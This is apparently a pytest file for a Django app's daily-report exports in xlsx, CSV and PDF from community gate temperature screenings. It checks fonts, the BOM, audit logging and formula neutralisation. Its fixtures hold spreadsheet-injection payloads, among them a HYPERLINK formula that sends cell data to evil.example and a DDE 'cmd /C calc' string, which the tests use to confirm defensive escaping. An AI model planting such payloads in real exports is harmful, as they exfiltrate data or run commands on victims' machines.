"""Each export opened and read back: the .xlsx with openpyxl, the CSV (BOM first), the PDF with
poppler (fonts embedded, Chinese title extractable, rendered to PNG to look at); formulas in user
text neutralised by the one function of :mod:`shouwang.core.cells`, directly and through an
export; a day with no submitted report exports live figures marked 未上报."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
from pathlib import Path

import pytest
import time_machine
from openpyxl import load_workbook

from conftest import SCREENSHOTS, World
from shouwang.core.cells import safe_cell
from shouwang.core.models import AuditLog
from shouwang.reports.selectors import ReportTarget
from shouwang.reports.services import approve_report, export_report, submit_report
from shouwang.reports.tests.helpers import DAY, local, screen

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
NOTES = f"{EVIL}\n+1 物资：口罩 200 只\n@SUM(1)\n-2 正常"


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\r=1", "'\r=1"),
        ("\x01=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),  # a control character cannot hide it
        ("张三", "张三"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
    ],
)
def test_safe_cell(raw: str | None, shown: str) -> None:
    assert safe_cell(raw) == shown


def poppler(*args: str) -> str:
    """The output of a poppler-utils tool (pdffonts, pdftotext, pdftoppm) run on our own file."""
    return subprocess.run(list(args), capture_output=True, text=True, check=True).stdout  # noqa: S603


def submitted(world: World) -> ReportTarget:
    target = ReportTarget(world.subdistrict, world.community_a)
    screen(world, world.gate_a, local(8, 10))
    screen(world, world.gate_a, local(8, 40))
    screen(world, world.gate_a2, local(9), temperature="37.8")
    with time_machine.travel(local(19), tick=False):
        report = submit_report(target, DAY, actor=world.worker, notes=NOTES)
        approve_report(report, actor=world.admin)
    return target


def test_xlsx_reads_back_with_formulas_neutralised(world: World) -> None:
    target = submitted(world)
    with time_machine.travel(local(21), tick=False):
        exported = export_report(target, DAY, fmt="xlsx", actor=world.admin)
    assert exported.filename == "daily-report-tps-2020-03-01.xlsx" and not exported.live
    book = load_workbook(io.BytesIO(exported.content))
    assert book.sheetnames == ["日报 report", "卡口 gates", "社区 communities"]
    sheet = book["日报 report"]
    values = [c for row in sheet.iter_rows(values_only=True) for c in row if c is not None]
    assert values[0] == "西长安街街道 太仆寺街社区 日报"
    assert "2020 年 3 月 1 日（星期日）  2020-03-01" in values
    figures = {row[0]: row[2] for row in sheet.iter_rows(values_only=True) if row[0] and row[2] is not None}
    assert figures["测温查证总人次"] == 3
    notes = next(v for v in values if isinstance(v, str) and "HYPERLINK" in v)
    assert notes.startswith("'=HYPERLINK")  # the whole notes cell starts with the formula
    # No cell anywhere is a formula.
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
    gates = list(book["卡口 gates"].iter_rows(values_only=True))
    assert ("力学胡同东口", "太仆寺街社区", 2, 2, 0, 0, 0, 0, "08 时 / 2") in gates
    assert any(v == "admin" for v in values)  # approved by
    audit = AuditLog.objects.get(action="report.export")
    assert audit.actor == world.admin and audit.detail["format"] == "xlsx" and audit.detail["live"] is False


def test_csv_starts_with_the_bom_and_neutralises(world: World) -> None:
    target = submitted(world)
    with time_machine.travel(local(21), tick=False):
        exported = export_report(target, DAY, fmt="csv", actor=world.worker)
    assert exported.content.startswith(b"\xef\xbb\xbf")
    assert exported.content_type.startswith("text/csv")
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert rows[0] == ["西长安街街道 太仆寺街社区 日报"]
    assert ["测温查证总人次", "Screenings", "3"] in rows
    assert ["发热人次", "Fevers", "1"] in rows
    notes = next(r for r in rows if r and r[0] == "备注")
    assert notes[2].startswith("'=HYPERLINK") and "\n+1 物资" in notes[2]
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value


def test_no_report_exports_live_figures_marked_not_submitted(world: World) -> None:
    target = ReportTarget(world.subdistrict, None)
    screen(world, world.gate_a, local(8))
    with time_machine.travel(local(21), tick=False):
        exported = export_report(target, DAY, fmt="csv", actor=world.admin)
    assert exported.live and exported.filename == "daily-report-all-2020-03-01-live.csv"
    text = exported.content.decode("utf-8-sig")
    assert "未上报（未填写）" in text and "NOT SUBMITTED" in text
    assert "西长安街街道 日报" in text.splitlines()[0]
    assert AuditLog.objects.get(action="report.export").detail["live"] is True


@pytest.mark.skipif(not shutil.which("pdffonts"), reason="needs poppler-utils (pdffonts, pdftotext)")
def test_pdf_embeds_its_fonts_and_reads_as_the_report(world: World, tmp_path: Path) -> None:
    target = submitted(world)
    with time_machine.travel(local(21), tick=False):
        exported = export_report(target, DAY, fmt="pdf", actor=world.admin)
    assert exported.content.startswith(b"%PDF")
    path = tmp_path / exported.filename
    path.write_bytes(exported.content)
    fonts = poppler("pdffonts", str(path))
    lines = fonts.splitlines()[2:]
    assert lines, fonts
    for line in lines:
        emb = line.split()[-5]
        assert emb == "yes", fonts  # every font embedded: no Helvetica fallback
    text = poppler("pdftotext", "-layout", str(path), "-")
    assert "西长安街街道 太仆寺街社区 日报" in text
    assert "2020 年 3 月 1 日" in text
    assert "力学胡同东口" in text and "小酱坊胡同西口" in text
    assert "=HYPERLINK" in text  # a PDF is not a spreadsheet: the notes read as written
    assert "第1页/共2页" in text.replace(" ", "")
    assert "已审核" in text and "admin" in text and "worker" in text
    os.makedirs(SCREENSHOTS, exist_ok=True)
    poppler("pdftoppm", "-png", "-r", "80", str(path), os.path.join(SCREENSHOTS, "reports-pdf"))
    assert os.path.exists(os.path.join(SCREENSHOTS, "reports-pdf-1.png"))


def test_live_pdf_says_not_submitted(world: World, tmp_path: Path) -> None:
    target = ReportTarget(world.subdistrict, world.community_b)
    with time_machine.travel(local(21), tick=False):
        exported = export_report(target, DAY, fmt="pdf", actor=world.admin)
    path = tmp_path / "live.pdf"
    path.write_bytes(exported.content)
    if shutil.which("pdftotext"):
        text = poppler("pdftotext", str(path), "-")
        assert "未上报" in text and "NOT SUBMITTED" in text


def test_an_unknown_format_is_refused(world: World) -> None:
    from shouwang.core.errors import InvalidInput

    with pytest.raises(InvalidInput) as bad:
        export_report(ReportTarget(world.subdistrict, world.community_a), DAY, fmt="docx", actor=world.admin)
    assert bad.value.code == "report_format_unknown"
    assert "xlsx、pdf、csv" in bad.value.message("zh-hans") and "xlsx, pdf, csv" in bad.value.message("en")
